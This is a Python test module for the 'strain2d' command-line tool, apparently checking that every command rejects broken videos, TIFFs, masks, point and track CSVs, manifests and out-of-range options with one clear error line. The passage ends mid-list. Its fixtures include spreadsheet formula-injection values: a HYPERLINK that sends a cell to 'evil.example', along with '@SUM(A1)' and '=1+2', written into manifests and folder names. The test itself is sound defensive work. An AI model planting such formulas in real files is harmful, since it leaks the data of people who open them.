"""Bad input for every strain2d command: exit 2, one line naming the file, nothing touched.

See tests/badinput.py for the contract and the families.
"""

from __future__ import annotations

import errno
import importlib
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from types import SimpleNamespace

import numpy as np
import pytest
import tifffile

import tissue_core.resources as resources
from strain2d.cli import main
from tests.badinput import (
    REPO,
    WRITING,
    assert_inert,
    assert_no_process_left,
    assert_refused,
    interrupt,
    killed,
    message_lines,
    parse_case_id,
    scratch_left,
    session_processes,
    snapshot,
    stale_scratch,
    unwritable_folder,
    write,
)
from tests.filenames import (
    assert_ran,
    assert_refused_process,
    latin1,
    run_process,
    shown,
    strict_json,
)
from tissue_core.outputs import foreign_content, read_marker

PROG = "strain2d"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.fixture(scope="module")
def inputs(small_case, tmp_path_factory):
    """Copies of the small video and files broken in every way the matrix needs."""
    folder, video = small_case
    d = tmp_path_factory.mktemp("bad_inputs")
    c = SimpleNamespace(dir=d, truth=video.truth)
    c.avi = d / "eq.avi"
    c.tif = d / "eq.tif"
    shutil.copy(folder / "eq.avi", c.avi)
    shutil.copy(folder / "eq.tif", c.tif)
    data = c.avi.read_bytes()
    (d / "truncated.avi").write_bytes(data[: len(data) // 2])
    (d / "header_only.avi").write_bytes(data[:200])
    (d / "empty.avi").write_bytes(b"")
    (d / "text.avi").write_text("not a video\n")
    tif = c.tif.read_bytes()
    (d / "truncated.tif").write_bytes(tif[: len(tif) // 2])
    (d / "last_page_cut.tif").write_bytes(tif[: len(tif) * 99 // 100])
    (d / "cut_tif").mkdir()
    for k, frame in enumerate(tifffile.imread(c.tif)[:3]):
        tifffile.imwrite(d / "cut_tif" / f"f{k}.tif", frame)
    page = (d / "cut_tif" / "f2.tif").read_bytes()
    (d / "cut_tif" / "f2.tif").write_bytes(page[: len(page) // 2])
    (d / "text.tif").write_text("not a tiff\n")
    tifffile.imwrite(d / "one_frame.tif", np.zeros((64, 64), np.uint8))
    tifffile.imwrite(d / "rgb_channels.tif", np.zeros((3, 2, 64, 64), np.uint8), imagej=True,
                     metadata={"axes": "TCYX"})  # fmt: skip
    frames = tifffile.imread(c.tif).astype(np.float32)
    for name, frame, value in (("inf_corner", 3, np.inf), ("nan_reference", 0, np.nan),
                               ("minus_inf", 5, -np.inf)):  # fmt: skip
        bad = frames.copy()
        bad[frame, -3:, -3:] = value  # nine pixels in a corner, far from every point
        tifffile.imwrite(d / f"{name}.tif", bad)
    (d / "float_images").mkdir()
    for k, frame in enumerate(frames[:3]):
        if k == 2:
            frame = frame.copy()
            frame[0, 0] = np.inf
        tifffile.imwrite(d / "float_images" / f"f{k}.tif", frame)
    (d / "no_images").mkdir()
    (d / "no_images" / "readme.txt").write_text("x")
    (d / "mixed").mkdir()
    for k, width in enumerate((64, 64, 60)):
        tifffile.imwrite(d / "mixed" / f"f{k}.tif", np.full((64, width), 9 * k, np.uint8))
    import cv2

    (d / "cut_jpeg").mkdir()
    texture = (np.random.default_rng(0).uniform(0, 255, (64, 64))).astype(np.uint8)
    jpeg = cv2.imencode(".jpg", texture)[1].tobytes()
    for k in range(3):
        (d / "cut_jpeg" / f"f{k}.jpg").write_bytes(jpeg if k < 2 else jpeg[: len(jpeg) // 2])
    (d / "frames").mkdir()
    (d / "frames" / "f0.png").write_bytes(b"\x89PNG broken")
    (d / "frames" / "f1.png").write_bytes(b"\x89PNG broken")
    csv = {
        "nan": "x,y\n10,10\nnan,50\n60,60\n",
        "inf": "x,y\n10,10\ninf,50\n60,60\n",
        "text": "x,y\n10,10\nten,50\n60,60\n",
        "duplicate": "x,y\n10,10\n10,10\n60,60\n40,90\n",
        "two_points": "x,y\n10,10\n60,60\n",
        "collinear": "x,y\n10,10\n20,20\n30,30\n",
        "outside": "x,y\n10,10\n60,60\n500,20\n",
        "no_header": "10,10\n60,60\n20,80\n",
        "empty": "",
        "header_only": "x,y\n",
        "binary": "\x00\x01\x02\xff",
        "many": "x,y\n10,10\n60,60\n20,80\n90,30\n",
    }
    for name, text in csv.items():
        mode = "wb" if name == "binary" else "w"
        with open(d / f"points_{name}.csv", mode) as f:
            f.write(text.encode("latin-1") if mode == "wb" else text)
    (d / "points_bom.csv").write_bytes(b"\xef\xbb\xbfx,y\n10,10\n60,60\nnan,1\n")
    # rows with more or fewer cells than the header: a decimal comma (10,5 for 10.5) makes one
    # too many and would shift y into the next column
    ragged = {
        "decimal_comma": "x,y\n10,10\n60,5,60\n40,90\n",
        "decimal_comma_first_row": "x,y\n10,5,10\n60,60\n40,90\n",
        "short_row": "x,y\n10,10\n60\n40,90\n",
        "trailing_comma": "x,y\n10,10\n60,60,\n40,90\n",
    }
    for name, text in ragged.items():
        (d / f"points_{name}.csv").write_text(text)
    # tissue masks (the video is 200 x 200 px), broken in every way a mask can be
    import roifile

    disc = np.zeros((200, 200), np.uint8)
    disc[(np.arange(200)[:, None] - 100) ** 2 + (np.arange(200)[None] - 100) ** 2 < 70**2] = 255
    cv2.imwrite(str(d / "mask_small.png"), disc[:150, :180])
    cv2.imwrite(str(d / "mask_blank.png"), np.zeros((200, 200), np.uint8))
    cv2.imwrite(str(d / "mask_speck.png"), np.pad(np.full((3, 3), 255, np.uint8), (98, 99)))
    specks = np.zeros((200, 200), np.uint8)  # two specks far apart: a grid over both misses
    specks[20:23, 20:23] = specks[177:180, 177:180] = 255
    cv2.imwrite(str(d / "mask_specks.png"), specks)
    png = cv2.imencode(".png", disc)[1].tobytes()
    (d / "mask_truncated.png").write_bytes(png[: len(png) // 2])
    (d / "mask_text.png").write_text("not an image\n")
    (d / "mask_empty.tif").write_bytes(b"")
    tifffile.imwrite(d / "mask_stack.tif", np.stack([disc] * 3), photometric="minisblack")
    cv2.imwrite(str(d / "mask.jpg"), disc)
    roifile.ImagejRoi(roitype=roifile.ROI_TYPE.LINE, x1=10, y1=10, x2=90, y2=90,
                      name="a line").tofile(d / "mask_line.roi")  # fmt: skip
    roifile.ImagejRoi(roitype=roifile.ROI_TYPE.RECT, left=300, top=300, right=400,
                      bottom=400).tofile(d / "mask_beyond.roi")  # fmt: skip
    (d / "mask_text.roi").write_text("not a roi\n")
    (d / "mask_two.csv").write_text("x,y\n10,10\n90,90\n")
    (d / "mask_text.csv").write_text("x,y\n10,10\nninety,10\n50,80\n")
    (d / "mask_columns.csv").write_text("a,b\n10,10\n90,10\n50,80\n")
    (d / "mask_sliver.csv").write_text("x,y\n20,20\n180,20\n180,23\n20,23\n")
    # track files from another tool, broken
    corners = [(10, 10), (90, 10), (50, 80)]
    rows = [f"{t},{i},{x},{y},1,1\n" for t in range(2) for i, (x, y) in enumerate(corners)]
    good = "frame,point,x,y,visible,quality\n" + "".join(rows)
    tracks = {
        "missing_row": good.rsplit("\n", 2)[0] + "\n",
        "duplicate_row": good + "1,2,50,80,1,1\n",
        "text": good.replace("90,10", "ninety,10", 1),
        "negative_index": good.replace("1,2,", "-1,2,", 1),
        "no_columns": "a,b\n1,2\n",
        "huge_indices": good + "5,100000000,50,80,1,1\n",  # (T, N) arrays of 6 x 10^8 cells
    }
    # tracks of the video's 6 frames, each broken in one row (that read silently before)
    rows = [f"{t},{i},{x},{y},1,1\n" for t in range(6) for i, (x, y) in enumerate(corners)]
    whole = "frame,point,x,y,visible,quality\n" + "".join(rows)
    tracks |= {
        "decimal_comma": whole.replace("1,1,90,10,1,1", "1,1,90,5,10,1,1", 1),
        "decimal_comma_reference": whole.replace("0,2,50,80,1,1", "0,2,50,80,5,1,1", 1),
        "short_row": whole.replace("1,1,90,10,1,1", "1,1,90,10,1", 1),
        "visible_7": whole.replace("1,1,90,10,1,1", "1,1,90,10,7,1", 1),
        "visible_half": whole.replace("1,1,90,10,1,1", "1,1,90,10,0.5,1", 1),
        "visible_true": whole.replace("0,1,90,10,1,1", "0,1,90,10,true,1", 1),
    }
    for name, text in tracks.items():
        (d / f"tracks_{name}.csv").write_text(text)
    np.savez(d / "tracks_ok.npz", positions=np.zeros((2, 3, 2)))
    visible = np.ones((6, 3))
    visible[1, 1] = 7
    np.savez(d / "tracks_visible_7.npz", positions=np.tile(corners, (6, 1, 1)), visible=visible)
    (d / "tracks_corrupt.npz").write_bytes((d / "tracks_ok.npz").read_bytes()[:100])
    np.save(d / "tracks_shape.npy", np.zeros((2, 3)))
    np.savez(d / "tracks_named.npz", coords=np.zeros((2, 3, 2)))
    np.savez(d / "tracks_strings.npz", positions=np.array([["a", "b"]]))
    (d / "tracks.parquet").write_bytes(b"PAR1")
    # the user's own folder, and a manifest
    c.mine = d / "thesis"
    c.mine.mkdir()
    (c.mine / "chapter1.tex").write_text("years of work")
    (d / "manifest_norun.csv").write_text("specimen,group\nS01,a\n")
    (d / "manifest_missing.csv").write_text("run,group\nnowhere,a\n")
    (d / "manifest_endpoint.csv").write_text("run,endpoint\nnowhere,-1\n")
    (d / "not_a_run").mkdir()
    # a run folder, and copies whose nodal table has a ragged row or a flag that is not 0 or 1
    from tests.strain2d.test_study import _field, _write_run

    _write_run(d / "run_ok", _field(0.8, 0.9, rng=np.random.default_rng(0), n_frames=4), endpoint=3)
    nodes = (d / "run_ok" / "strain_nodes.csv").read_text().splitlines()
    row = nodes[60].split(",")  # line 61: frame 1
    damaged = {
        "run_decimal_comma": [*row[:2], row[2].replace(".", ","), *row[3:]],
        "run_visible_7": [*row[:6], "7", *row[7:]],
    }
    assert nodes[0].split(",")[6] == "visible"
    for name, cells in damaged.items():
        shutil.copytree(d / "run_ok", d / name)
        text = "\n".join([*nodes[:60], ",".join(cells), *nodes[61:]]) + "\n"
        (d / name / "strain_nodes.csv").write_text(text)
    manifests = {
        "extra_cell": "run,group\nrun_ok,a\nrun_ok,b,c\n",
        "missing_cell": "run,specimen,group\nrun_ok,A,a\nrun_ok,B\n",
    }
    for name, text in manifests.items():
        (d / f"manifest_{name}.csv").write_text(text)
        (d / f"batch_manifest_{name}.csv").write_text(
            text.replace("run,", "video,", 1).replace("run_ok", "eq.avi")
        )
    # batch manifests: a name too long for a folder, names a spreadsheet would run
    (d / "batch_long_name.csv").write_text(f"video,specimen\neq.avi,{'x' * 300}\n")
    (d / "batch_formula.csv").write_text(
        'video,specimen,group\neq.avi,@SUM(A1),"' + HYPERLINK.replace('"', '""') + '"\n'
    )
    return c


@pytest.fixture(scope="module")
def formula_runs(inputs, tmp_path_factory):
    """A run folder under names a spreadsheet would run, and a study manifest naming it so."""
    d = tmp_path_factory.mktemp("formula_runs")
    argv = ["-q", "analyze", str(inputs.avi), "--grid", "3x3", "--animation", "none"]
    assert main([*argv, "--out", str(d / "=1+2")]) == 0
    shutil.copytree(d / "=1+2", d / "\t@tab")
    group = '"' + HYPERLINK.replace('"', '""') + '"'
    (d / "manifest.csv").write_text(f"run,specimen,group\n=1+2,+A1,{group}\n=1+2,-2+3,@SUM(A1)\n")
    return d


def _batch(c, *extra):
    return ["-q", "batch", "--workers", "1", "--grid", "3x3", "--animation", "none", *extra]


def _analyze(c, *extra):
    """``analyze`` of the video (or of the source ``c``, a path) on a 3x3 grid."""
    video = c if isinstance(c, Path) else c.avi
    return ["-q", "analyze", video, "--grid", "3x3", "--animation", "none", *extra]


def _track(c, *extra):
    """``track`` of the video (or of the source ``c``, a path) on a 3x3 grid."""
    video = c if isinstance(c, Path) else c.avi
    return ["-q", "track", video, "--grid", "3x3", *extra]


def _points_file(name):
    return lambda c, o: ["track", c.avi, "--points", c.dir / f"points_{name}.csv", "--out", o]


def _tracks_file(name):
    return lambda c, o: ["track", "--tracker", "imported", c.avi, "--tracks-file",
                         c.dir / f"tracks_{name}.csv", "--out", o]  # fmt: skip


# Each case: id, argv builder (inputs, output path) -> argv, fragments the line must hold.
# fmt: off
CASES = [
    # ---- missing
    ("analyze-missing-video", lambda c, o: ["analyze", c.dir / "nope.avi", "--out", o],
     ["nope.avi"]),
    ("track-missing-video", lambda c, o: ["track", c.dir / "nope.mp4", "--out", o], ["nope.mp4"]),
    ("analyze-missing-points", lambda c, o: ["analyze", c.avi, "--points", c.dir / "nope.csv",
     "--out", o], ["nope.csv"]),
    ("track-missing-tracks-file", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "nope.csv", "--out", o], ["nope.csv"]),
    ("study-missing-run", lambda c, o: ["study", c.dir / "nowhere", "--out", o], ["nowhere"]),
    ("study-missing-manifest", lambda c, o: ["study", "--manifest", c.dir / "nope.csv",
     "--out", o], ["nope.csv"]),
    ("study-missing-run-in-manifest", lambda c, o: ["study", "--manifest",
     c.dir / "manifest_missing.csv", "--out", o], ["nowhere"]),
    ("analyze-missing-mask", lambda c, o: ["analyze", c.avi, "--mask", c.dir / "nope.png",
     "--out", o], ["--mask", "nope.png"]),
    # ---- empty
    ("analyze-empty-mask-blank", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_blank.png", "--out", o], ["mask_blank.png", "no pixel", "no tissue"]),
    ("analyze-empty-mask-file", lambda c, o: ["analyze", c.avi, "--mask", c.dir / "mask_empty.tif",
     "--out", o], ["mask_empty.tif", "empty"]),
    ("analyze-empty-mask-roi-beyond-the-frame", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_beyond.roi", "--out", o], ["mask_beyond.roi", "encloses no pixel"]),
    ("track-empty-mask-too-few-points", lambda c, o: ["track", c.avi, "--mask",
     c.dir / "mask_specks.png", "--out", o], ["mask_specks.png", "of the 7x7 grid's points",
     "at least 3"]),
    ("track-empty-mask-speck", lambda c, o: ["track", c.avi, "--mask",
     c.dir / "mask_speck.png", "--out", o], ["mask_speck.png", "spans 2x2 px", "--grid 7x7"]),
    ("analyze-empty-mask-sliver", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_sliver.csv", "--out", o], ["mask_sliver.csv", "spans 160x3 px", "--grid 7x7"]),
    ("analyze-empty-mask-points-off-tissue", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_speck.png", "--points", c.dir / "points_many.csv", "--out", o],
     ["mask_speck.png", "0 of the 4 points", "at least 3"]),
    ("analyze-truncated-mask", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_truncated.png", "--out", o], ["mask_truncated.png", "truncated"]),
    ("analyze-wrong-type-mask-text", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_text.png", "--out", o], ["mask_text.png", "not an image"]),
    ("analyze-wrong-type-mask-roi-text", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_text.roi", "--out", o], ["mask_text.roi", "not an ImageJ ROI"]),
    ("analyze-wrong-type-mask-jpeg", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask.jpg", "--out", o], ["mask.jpg", "PNG, TIFF"]),
    ("analyze-wrong-type-mask-folder", lambda c, o: ["analyze", c.avi, "--mask", c.dir,
     "--out", o], ["--mask", "folder"]),
    ("analyze-wrong-type-mask-line-roi", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_line.roi", "--out", o], ["mask_line.roi", "a line", "encloses no area"]),
    ("analyze-wrong-type-mask-stack", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_stack.tif", "--out", o], ["mask_stack.tif", "stack of 3"]),
    ("analyze-option-mask-size", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_small.png", "--out", o], ["mask_small.png", "180x150", "200x200"]),
    ("analyze-csv-mask-two-vertices", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_two.csv", "--out", o], ["mask_two.csv", "2 vertices", "at least 3"]),
    ("analyze-csv-mask-text", lambda c, o: ["analyze", c.avi, "--mask", c.dir / "mask_text.csv",
     "--out", o], ["mask_text.csv", "line 3"]),
    ("analyze-csv-mask-columns", lambda c, o: ["analyze", c.avi, "--mask",
     c.dir / "mask_columns.csv", "--out", o], ["mask_columns.csv", "x,y"]),
    ("analyze-conflict-mask-imported", lambda c, o: ["analyze", c.avi, "--tracker", "imported",
     "--tracks-file", c.dir / "tracks_ok.npz", "--mask", c.dir / "mask_small.png", "--out", o],
     ["--mask", "--grid or --points"]),
    ("analyze-empty-video", lambda c, o: ["analyze", c.dir / "empty.avi", "--out", o],
     ["empty.avi"]),
    ("analyze-empty-folder", lambda c, o: ["analyze", c.dir / "no_images", "--out", o],
     ["no_images", "no images"]),
    ("analyze-empty-one-frame", lambda c, o: ["analyze", c.dir / "one_frame.tif", "--out", o],
     ["one_frame.tif", "frame"]),
    ("track-empty-points", lambda c, o: ["track", c.avi, "--points", c.dir / "points_empty.csv",
     "--out", o], ["points_empty.csv"]),
    ("track-empty-points-header-only", lambda c, o: ["track", c.avi, "--points",
     c.dir / "points_header_only.csv", "--out", o], ["at least 3 points"]),
    ("study-empty-run-folder", lambda c, o: ["study", c.dir / "not_a_run", "--out", o],
     ["not_a_run"]),
    ("study-empty-manifest-no-run-column", lambda c, o: ["study", "--manifest",
     c.dir / "manifest_norun.csv", "--out", o], ["manifest_norun.csv", "run"]),
    # ---- truncated
    ("analyze-truncated-avi", lambda c, o: ["analyze", c.dir / "truncated.avi", "--grid", "3x3",
     "--out", o], ["truncated.avi", "truncated or damaged"]),
    ("analyze-truncated-avi-header", lambda c, o: ["analyze", c.dir / "header_only.avi",
     "--out", o], ["header_only.avi"]),
    ("analyze-truncated-tif", lambda c, o: ["analyze", c.dir / "truncated.tif", "--grid", "3x3",
     "--out", o], ["truncated.tif is truncated"]),
    ("track-truncated-tif-last-page", lambda c, o: _track(c.dir / "last_page_cut.tif",
     "--out", o), ["last_page_cut.tif is truncated", "bytes"]),
    ("analyze-truncated-tif-scale-auto", lambda c, o: _analyze(c.dir / "truncated.tif", "--scale",
     "auto", "--out", o), ["truncated.tif is truncated"]),
    ("analyze-truncated-tif-in-folder", lambda c, o: _analyze(c.dir / "cut_tif", "--out", o),
     ["f2.tif is truncated", "runs to byte"]),
    ("track-truncated-npz", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks_corrupt.npz", "--out", o], ["tracks_corrupt.npz"]),
    ("track-truncated-tracks-missing-row", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks_missing_row.csv", "--out", o],
     ["tracks_missing_row.csv", "one row for each"]),
    # ---- wrong type
    ("analyze-wrong-type-text-avi", lambda c, o: ["analyze", c.dir / "text.avi", "--out", o],
     ["text.avi"]),
    ("analyze-wrong-type-text-tif", lambda c, o: ["analyze", c.dir / "text.tif", "--out", o],
     ["text.tif"]),
    ("analyze-wrong-type-broken-pngs", lambda c, o: ["analyze", c.dir / "frames", "--out", o],
     ["f0.png"]),
    ("analyze-wrong-type-mixed-sizes", lambda c, o: ["analyze", c.dir / "mixed", "--grid", "3x3",
     "--out", o], ["f2.tif", "60x64"]),
    ("analyze-truncated-jpeg-in-folder", lambda c, o: ["analyze", c.dir / "cut_jpeg", "--grid",
     "3x3", "--out", o], ["f2.jpg", "truncated"]),
    ("analyze-wrong-type-channels", lambda c, o: ["analyze", c.dir / "rgb_channels.tif",
     "--out", o], ["rgb_channels.tif", "channels"]),
    ("analyze-wrong-type-csv-as-video", lambda c, o: ["analyze", c.dir / "points_nan.csv",
     "--out", o], ["points_nan.csv"]),
    ("track-wrong-type-tracks-parquet", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks.parquet", "--out", o], ["tracks.parquet"]),
    ("track-wrong-type-npy-shape", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks_shape.npy", "--out", o], ["tracks_shape.npy", "(T, N, 2)"]),
    ("track-wrong-type-npz-names", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks_named.npz", "--out", o], ["tracks_named.npz", "positions"]),
    ("track-wrong-type-npz-strings", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks_strings.npz", "--out", o], ["tracks_strings.npz"]),
    ("track-wrong-type-points-binary", lambda c, o: ["track", c.avi, "--points",
     c.dir / "points_binary.csv", "--out", o], ["points_binary.csv"]),
    ("study-wrong-type-video-as-run", lambda c, o: ["study", c.avi, "--out", o], ["eq.avi"]),
    ("study-wrong-type-folder-as-manifest", lambda c, o: ["study", "--manifest", c.dir / "mixed",
     "--out", o], ["mixed is a folder"]),
    ("track-wrong-type-folder-as-tracks-file", lambda c, o: ["track", "--tracker", "imported",
     c.avi, "--tracks-file", c.dir / "mixed", "--out", o], ["mixed is a folder, not a tracks"]),
    # ---- CSV content
    *[(f"track-csv-points-{name}", _points_file(name), [fragment])
      for name, fragment in [("nan", "finite"), ("inf", "finite"), ("text", "points_text.csv"),
                             ("duplicate", "given twice"), ("two_points", "at least 3"),
                             ("collinear", "collinear"), ("outside", "outside"),
                             ("no_header", "points_no_header.csv"), ("bom", "finite")]],
    *[(f"track-csv-tracks-{name}", _tracks_file(name), [f"tracks_{name}.csv"])
      for name in ("duplicate_row", "text", "negative_index", "no_columns")],
    # ---- CSV rows with more or fewer cells than the header, flags that are not 0 or 1
    *[(f"{command}-csv-ragged-points-{name.replace('_', '-')}", (lambda cmd, n: lambda c, o: [
        cmd, c.avi, "--points", c.dir / f"points_{n}.csv", "--out", o])(command, name),
      [f"points_{name}.csv, line {line}", fragment])
      for command in ("track", "analyze")
      for name, line, fragment in [
          ("decimal_comma", 3, "3 cells where the header has 2 (a decimal comma?): 60,5,60"),
          ("decimal_comma_first_row", 2, "3 cells where the header has 2"),
          ("short_row", 3, "1 cell where the header has 2: 60"),
          ("trailing_comma", 3, "3 cells where the header has 2")]],
    *[(f"track-csv-ragged-tracks-{name.replace('_', '-')}", _tracks_file(name),
       [f"tracks_{name}.csv, line {line}", fragment])
      for name, line, fragment in [
          ("decimal_comma", 6, "7 cells where the header has 6 (a decimal comma?)"),
          ("decimal_comma_reference", 4, "7 cells where the header has 6"),
          ("short_row", 6, "5 cells where the header has 6")]],
    *[(f"track-csv-visible-tracks-{name}", _tracks_file(f"visible_{name}"),
       [f"tracks_visible_{name}.csv, line {line}", fragment])
      for name, line, fragment in [("7", 6, "visible must be 0 or 1, got 7"),
                                   ("half", 6, "visible must be 0 or 1, got 0.5"),
                                   ("true", 3, "not a number")]],
    ("track-csv-visible-tracks-npz-7", lambda c, o: ["track", "--tracker", "imported", c.avi,
     "--tracks-file", c.dir / "tracks_visible_7.npz", "--out", o],
     ["tracks_visible_7.npz", "visible must hold 0 or 1", "got 7"]),
    ("study-csv-ragged-strain-nodes", lambda c, o: ["study", c.dir / "run_decimal_comma",
     "--out", o], ["strain_nodes.csv, line 61", "cells where the header has", "decimal comma"]),
    ("study-csv-visible-strain-nodes-7", lambda c, o: ["study", c.dir / "run_visible_7",
     "--out", o], ["strain_nodes.csv, line 61", "visible must be 0 or 1, got 7"]),
    *[(f"{command}-csv-ragged-manifest-{name.replace('_', '-')}", (lambda cmd, n: lambda c, o: [
        cmd, *(["--manifest"] if cmd == "study" else []),
        c.dir / f"{'batch_' if cmd == 'batch' else ''}manifest_{n}.csv", "--out", o])(
            command, name), [f"manifest_{name}.csv, line 3: {fragment}"])
      for command in ("study", "batch")
      for name, fragment in [("extra_cell", "3 cells where the header has 2 (a decimal comma?)"),
                             ("missing_cell", "2 cells where the header has 3")]],
    # ---- options out of range
    ("analyze-option-grid-1x5", lambda c, o: ["analyze", c.avi, "--grid", "1x5", "--out", o],
     ["--grid"]),
    ("analyze-option-grid-text", lambda c, o: ["analyze", c.avi, "--grid", "7by7", "--out", o],
     ["--grid"]),
    ("analyze-option-roi-outside", lambda c, o: ["analyze", c.avi, "--roi", "0,0,900,900",
     "--out", o], ["--roi"]),
    ("analyze-option-roi-inverted", lambda c, o: ["analyze", c.avi, "--roi", "150,150,20,20",
     "--out", o], ["--roi"]),
    ("analyze-option-roi-nan", lambda c, o: ["analyze", c.avi, "--roi", "nan,0,100,100",
     "--out", o], ["--roi"]),
    ("analyze-option-start-negative", lambda c, o: ["analyze", c.avi, "--start=-1", "--out", o],
     [">= 0"]),
    ("analyze-option-step-zero", lambda c, o: ["analyze", c.avi, "--step", "0", "--out", o],
     ["--step"]),
    ("analyze-option-start-past-end", lambda c, o: ["analyze", c.avi, "--start", "50",
     "--out", o], ["selects no frame"]),
    ("analyze-option-endpoint-negative", lambda c, o: _analyze(c, "--endpoint=-1", "--out", o),
     ["--endpoint", "from 0"]),
    ("analyze-option-endpoint-past-end", lambda c, o: _analyze(c, "--endpoint", "6", "--out", o),
     ["--endpoint 6", "outside the frames 0..5"]),
    ("analyze-option-maps-at-negative", lambda c, o: _analyze(c, "--maps-at=-2", "--out", o),
     ["--maps-at", "from 0"]),
    ("analyze-option-maps-at-text", lambda c, o: _analyze(c, "--maps-at", "1,two", "--out", o),
     ["--maps-at"]),
    ("analyze-option-fps-zero", lambda c, o: _analyze(c, "--fps", "0", "--out", o), ["--fps"]),
    ("analyze-option-fps-nan", lambda c, o: _analyze(c, "--fps", "nan", "--out", o), ["--fps"]),
    ("analyze-option-endpoint-tolerance", lambda c, o: _analyze(c, "--endpoint-tolerance", "1.5",
     "--out", o), ["--endpoint-tolerance"]),
    ("analyze-option-figure-format", lambda c, o: _analyze(c, "--figure-format", "bmp",
     "--out", o), ["bmp"]),
    ("analyze-option-unknown-tracker", lambda c, o: _analyze(c, "--tracker", "magic", "--out", o),
     ["magic"]),
    ("analyze-option-subset-even", lambda c, o: _analyze(c, "--subset", "30", "--out", o),
     ["subset"]),
    ("analyze-option-subset-tiny", lambda c, o: _analyze(c, "--subset", "3", "--out", o),
     ["subset"]),
    ("analyze-option-zncc-min", lambda c, o: _analyze(c, "--zncc-min", "2", "--out", o),
     ["--zncc-min"]),
    ("track-option-window-zero", lambda c, o: _track(c, "--tracker", "klt", "--window", "0",
     "--out", o), ["--window"]),
    ("track-option-levels-negative", lambda c, o: _track(c, "--tracker", "klt", "--levels=-1",
     "--out", o), ["--levels"]),
    ("track-option-fb-threshold-nan", lambda c, o: _track(c, "--tracker", "klt", "--fb-threshold",
     "nan", "--out", o), ["--fb-threshold"]),
    ("analyze-option-min-triangle-quality", lambda c, o: ["analyze", c.avi, "--points",
     c.dir / "points_duplicate.csv", "--min-triangle-quality", "2", "--out", o],
     ["--min-triangle-quality"]),
    ("study-option-alpha", lambda c, o: ["study", c.dir / "not_a_run", "--alpha", "1.5",
     "--out", o], ["--alpha"]),
    ("study-option-compare", lambda c, o: ["study", c.dir / "not_a_run", "--compare", "Exx",
     "--out", o], ["--compare"]),
    ("study-option-manifest-endpoint", lambda c, o: ["study", "--manifest",
     c.dir / "manifest_endpoint.csv", "--out", o], ["manifest_endpoint.csv"]),
    ("benchmark-option-seed-negative", lambda c, o: ["benchmark", "--quick", "--seed=-1",
     "--out", o], ["--seed"]),
    ("benchmark-option-unknown-case", lambda c, o: ["benchmark", "--quick", "--cases", "bend",
     "--out", o], ["bend"]),
    ("benchmark-option-unknown-sweep", lambda c, o: ["benchmark", "--quick", "--sweep", "wind",
     "--out", o], ["wind"]),
    ("benchmark-option-imported-tracker", lambda c, o: ["benchmark", "--quick", "--trackers",
     "imported", "--out", o], ["imported"]),
    ("benchmark-option-grid", lambda c, o: ["benchmark", "--quick", "--grid", "0x3", "--out", o],
     ["--grid"]),
    # ---- options that size an allocation beyond the frames or the memory
    ("analyze-allocation-grid-100000x100000", lambda c, o: _analyze(c, "--grid", "100000x100000",
     "--out", o), ["--grid 100000x100000", "0.00139 px apart", "at most 70x70"]),
    ("analyze-allocation-grid-500x500", lambda c, o: _analyze(c, "--grid", "500x500", "--out", o),
     ["--grid 500x500", "0.279 px apart", "closer than 2 px", "at most 70x70"]),
    ("analyze-allocation-grid-in-roi", lambda c, o: _analyze(c, "--roi", "10,10,20,30", "--grid",
     "20x20", "--out", o), ["--grid 20x20", "10x20 px region", "at most 6x11"]),
    ("track-allocation-grid-500x500", lambda c, o: ["track", c.avi, "--grid", "500x500",
     "--out", o], ["--grid 500x500", "at most 70x70"]),
    ("analyze-allocation-tracks-memory", lambda c, o: _analyze(c, "--out", o),
     ["tracking 9 points over 6 frames", "1.74 KiB of memory", "1000 bytes is available",
      "--grid"]),
    ("track-allocation-points-memory", lambda c, o: ["track", c.avi, "--points",
     c.dir / "points_many.csv", "--out", o], ["tracking 4 points over 6 frames", "of memory"]),
    ("track-allocation-tracks-indices-beyond-the-rows", _tracks_file("huge_indices"),
     ["tracks_huge_indices.csv", "is incomplete", "point indices up to 1e+08"]),
    ("benchmark-allocation-grid-1000x1000", lambda c, o: ["benchmark", "--quick", "--grid",
     "1000x1000", "--out", o], ["--grid 1000x1000", "at most"]),
    # ---- infinite or NaN pixels in float frames (a corner, far from every point)
    ("analyze-nonfinite-inf-corner", lambda c, o: _analyze(c.dir / "inf_corner.tif", "--out", o),
     ["inf_corner.tif", "frame 3", "9 infinite pixel values", "x=197, y=197"]),
    ("analyze-nonfinite-nan-reference", lambda c, o: _analyze(c.dir / "nan_reference.tif",
     "--out", o), ["nan_reference.tif", "frame 0", "9 NaN pixel values"]),
    ("analyze-nonfinite-image-folder", lambda c, o: _analyze(c.dir / "float_images", "--out", o),
     ["f2.tif", "frame 2", "1 infinite pixel value "]),
    *[(f"track-nonfinite-minus-inf-{tracker}", (lambda t: lambda c, o: _track(
        c.dir / "minus_inf.tif", "--tracker", t, "--out", o))(tracker),
       ["minus_inf.tif", "frame 5", "9 infinite"]) for tracker in ("gdic", "dic", "klt")],
    # ---- conflicting options
    ("analyze-conflict-points-and-grid", lambda c, o: ["analyze", c.avi, "--points",
     c.dir / "points_nan.csv", "--grid", "3x3", "--out", o], ["--points", "--grid"]),
    ("analyze-conflict-klt-option-with-dic", lambda c, o: _analyze(c, "--window", "21",
